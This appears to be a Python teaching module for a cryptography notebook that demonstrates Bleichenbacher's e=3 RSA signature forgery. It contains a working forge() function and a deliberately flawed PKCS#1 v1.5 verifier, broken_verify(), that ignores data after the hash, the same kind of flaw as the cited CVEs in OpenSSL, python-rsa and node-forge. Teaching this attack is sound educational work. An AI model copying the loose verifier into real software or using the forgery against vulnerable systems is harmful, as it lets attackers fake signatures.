"""A forged RSA signature: a verifier that parses PKCS#1 v1.5 loosely, and a key with e = 3.

Notebook 3.5 calls this. What Bleichenbacher showed at the rump session of CRYPTO 2006: the padded
block is `00 01 FF…FF 00 DigestInfo hash` and has to fill the modulus. A verifier that finds the
hash and does not look whether anything follows it accepts a block with few FF and a long tail of
anything. With e = 3 some integer's cube begins with any block that one wants, and a cube that is
smaller than the modulus needs no private key. Found in OpenSSL (CVE-2006-4339), python-rsa
(CVE-2016-1494) and node-forge (CVE-2022-24772).
"""

from hashlib import sha256

from cryptography.hazmat.primitives.asymmetric.rsa import RSAPublicKey

DIGEST_INFO = bytes.fromhex("3031300d060960864801650304020105000420")
"""What stands before a SHA-256: RFC 8017, section 9.2, note 1."""
FEWEST_FILLED = 8
"""The number of FF below which even a loose verifier refuses: RFC 8017, section 9.2, step 4."""


def forge(message: bytes, key: RSAPublicKey) -> bytes:
    """A signature of `message` that `broken_verify` accepts, made from the public key alone.

    Raises ValueError when the public exponent is not 3, or the modulus leaves too short a tail.
    """
    if key.public_numbers().e != 3:
        raise ValueError("The cube root is taken in the integers: this needs e = 3.")
    size = key.key_size // 8
    wanted = _encoded(message, FEWEST_FILLED)
    tail = 8 * (size - len(wanted))
    target = int.from_bytes(wanted) << tail
    root = cube_root(target)
    root += root**3 < target
    if root**3 >> tail != int.from_bytes(wanted):
        raise ValueError(f"A modulus of {key.key_size} bits leaves no cube that begins like this.")
    return root.to_bytes(size)


def broken_verify(key: RSAPublicKey, signature: bytes, message: bytes) -> bool:
    """Whether the block begins as it should; what follows the hash is not looked at."""
    block = opened(key, signature)
    if block[:2] != b"\x00\x01":
        return False
    filled, _, rest = block[2:].partition(b"\x00")
    if len(filled) < FEWEST_FILLED or filled.strip(b"\xff"):
        return False
    return rest.startswith(DIGEST_INFO + sha256(message).digest())


def opened(key: RSAPublicKey, signature: bytes) -> bytes:
    """The block that was signed: the signature to the power of e, modulo n."""
    numbers = key.public_numbers()
    block = pow(int.from_bytes(signature), numbers.e, numbers.n)
    return block.to_bytes(key.key_size // 8)


def cube_root(number: int) -> int:
    """The largest integer whose cube is at most `number`, which is not negative."""
    low, high = 0, 1 << (number.bit_length() // 3 + 1)
    while low < high:
        middle = (low + high + 1) // 2
        low, high = (middle, high) if middle**3 <= number else (low, middle - 1)
    return low


def _encoded(message: bytes, filled: int) -> bytes:
    return b"\x00\x01" + b"\xff" * filled + b"\x00" + DIGEST_INFO + sha256(message).digest()
